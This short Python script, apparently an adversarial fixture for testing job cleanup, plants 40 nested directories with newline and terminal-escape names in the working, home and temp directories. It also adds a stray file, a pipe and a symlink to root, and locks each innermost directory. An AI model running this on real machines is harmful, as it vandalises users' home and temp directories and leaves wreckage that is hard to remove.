# /// attack
# says = "ran to its end"
# ///
"""Leave closed, deep and oddly named files and folders, which somebody must remove."""

import os

for place in (os.getcwd(), os.path.expanduser("~"), os.environ["TMPDIR"]):
    os.chdir(place)
    for number in range(40):
        os.mkdir("\n\x1b[31m" + "d" * 100)
        os.chdir("\n\x1b[31m" + "d" * 100)
    open("left-by-another-job", "w").write("left")
    try:
        os.mkfifo("pipe")
    except OSError as error:
        print("refused", error.errno)
    os.symlink("/", "root")
    os.chmod(".", 0)
raise RuntimeError("the attack ran to its end")
